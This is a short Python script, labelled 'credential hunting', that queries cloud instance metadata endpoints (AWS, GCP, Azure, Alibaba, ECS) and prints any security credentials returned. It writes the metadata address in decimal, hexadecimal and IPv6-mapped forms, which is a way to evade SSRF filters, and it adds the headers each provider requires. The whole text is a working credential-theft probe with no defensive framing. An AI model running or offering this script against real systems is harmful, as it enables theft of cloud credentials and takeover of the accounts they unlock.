# class: credential hunting; possible: low medium high
import urllib.request
for url in ("http://2852039166/latest/meta-data/", "http://[::ffff:169.254.169.254]/", "http://0xa9fea9fe/computeMetadata/v1/?recursive=true",
            "http://100.100.100.200/latest/meta-data/ram/security-credentials/", "http://169.254.170.2/v2/credentials"):
    try:
        r = urllib.request.Request(url, headers={"Metadata-Flavor": "Google", "Metadata": "true"})
        print(urllib.request.urlopen(r, timeout=2).read())
    except Exception as e: print(url, e)
